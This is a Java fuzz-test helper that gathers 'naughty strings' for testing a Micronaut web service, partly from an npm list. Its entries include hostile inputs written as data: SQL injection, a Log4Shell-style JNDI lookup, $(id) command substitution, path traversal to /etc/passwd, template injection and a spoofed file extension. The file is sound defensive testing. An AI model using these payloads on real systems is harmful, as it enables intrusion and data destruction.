package dev.valetkey.micronaut.web.fuzz;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Assumptions;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts that have broken software. */
final class NaughtyStrings {

    /** The npm package big-list-of-naughty-strings, which the build installs. */
    private static final Path LIST =
            Path.of("target/naughty-strings/node_modules/big-list-of-naughty-strings/blns.json");

    private static final int LONG = 9_000;

    private NaughtyStrings() {}

    /** Our own and those of the big list, which is missing on a machine without npm. */
    static List<String> all() {
        List<String> all = new ArrayList<>(ours());
        if (Files.exists(LIST)) {
            all.addAll(read());
        } else {
            Assumptions.assumeFalse("true".equals(System.getenv("CI")), "CI requires npm and " + LIST);
        }
        return List.copyOf(all);
    }

    private static List<String> read() {
        try {
            return new ObjectMapper().readValue(LIST.toFile(), new TypeReference<List<String>>() {});
        } catch (IOException unreadable) {
            throw new UncheckedIOException(unreadable);
        }
    }

    /** What the big list does not have, and each text that once failed here. */
    static List<String> ours() {
        return Stream.of(
                        halves(),
                        List.of(
                                "\0",
                                "a\0b",
                                "\u0001\u001f\u007f\u0085",
                                "a\rb\nc",
                                "\u2028\u2029",
                                "\ufeffa",
                                "\uffff\ufffe"),
                        List.of(
                                "\u202egnp.exe",
                                "\u2066x\u2069",
                                "\u200f\u061c",
                                "\u0430dmin",
                                "\u00ad",
                                "e\u0301".repeat(200)),
                        List.of(
                                "'; DROP TABLE upload; --",
                                "${jndi:ldap://a.test/x}",
                                "%s%n%1$d",
                                "{0}{}",
                                "#{7*7}",
                                "$(id)"),
                        List.of(
                                "../../etc/passwd",
                                "..%2f..%2f",
                                "%00",
                                "%",
                                "%zz",
                                "%c0%af",
                                "a+b",
                                "a&b=c#d?e",
                                "\\\\x\\y"),
                        List.of(
                                "null",
                                "undefined",
                                "NaN",
                                "1e400",
                                "-0",
                                "-1",
                                "1.0",
                                "9".repeat(40),
                                "0x1F",
                                "٣",
                                "true"),
                        List.of(
                                "\ud83d\ude00",
                                "\ud83d\ude00".repeat(100),
                                "\ud83c\udff4\udb40\udc67\udb40\udc7f",
                                "ﷺ".repeat(90)),
                        List.of(
                                "a/b;c=d",
                                "text/plain; a=\"" + "x ".repeat(100) + "\"",
                                "wait=99999999999",
                                "wait=\"5",
                                "W/\"x",
                                "\"a"),
                        List.of(
                                "a ".repeat(LONG / 2),
                                "\"" + "a".repeat(LONG / 3) + "\"",
                                "x/x;" + "a=b;".repeat(LONG / 4),
                                "-".repeat(LONG)),
                        List.of(
                                "a,".repeat(LONG / 2),
                                "\ud83d\ude00".repeat(LONG / 6),
                                "https://" + "a.".repeat(LONG / 2),
                                " ".repeat(LONG)))
                .flatMap(List::stream)
                .toList();
    }

    /** Halves of surrogate pairs alone, reversed, and where a text may be cut. */
    private static List<String> halves() {
        return List.of(
                "\ud800",
                "\udfff",
                "a\ud83d",
                "\ude00\ud83d",
                "a".repeat(63) + "\ud83d\ude00",
                "a".repeat(79) + "\ud83d\ude00",
                "a".repeat(127) + "\ud83d\ude00",
                "a".repeat(254) + "\ud83d\ude00",
                "a".repeat(499) + "\ud83d\ude00");
    }
}
